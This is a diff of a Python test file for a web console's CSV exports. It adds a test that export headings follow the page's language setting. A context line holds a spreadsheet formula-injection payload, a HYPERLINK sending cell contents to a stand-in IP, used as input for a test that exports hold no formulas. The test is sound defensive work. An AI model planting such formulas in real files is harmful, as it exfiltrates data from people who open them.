@@ -46,6 +46,21 @@ async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleFi
     assert (await (await console.signed_in("lin")).get("/operator/ledger.csv")).status_code == 403
 
 
+async def test_headings_of_exports_are_in_the_language_of_the_page(console: ConsoleFixture) -> None:
+    chief, lin = await console.signed_in("chief"), await console.signed_in("lin")
+    ledger = f"/operator/ledger.csv?account={console.account_id}"
+    exports = [(chief, ledger), (chief, "/operator/audit.csv"), (chief, "/operator/takeover/report.csv")]
+    exports += [(lin, each) for each in ("/bills.csv", "/monitor.csv", "/monitor-errors.csv")]
+    for client, path in exports:
+        chinese = rows(await client.see(path))[0]
+        client.cookies.set("inkgate_language", "en", path="/console")
+        english = rows(await client.see(path))[0]
+        client.cookies.delete("inkgate_language", path="/console")
+        assert len(chinese) == len(english) > 4, path
+        assert "能力" in chinese or "操作" in chinese, path
+        assert all(each.isascii() for each in english), path
+
+
 async def test_no_export_of_the_console_has_a_formula(console: ConsoleFixture) -> None:
     await bought(console, general_100k=1)
     sent = '＝HYPERLINK("http://192.0.2.1/?"&A1,"open")'
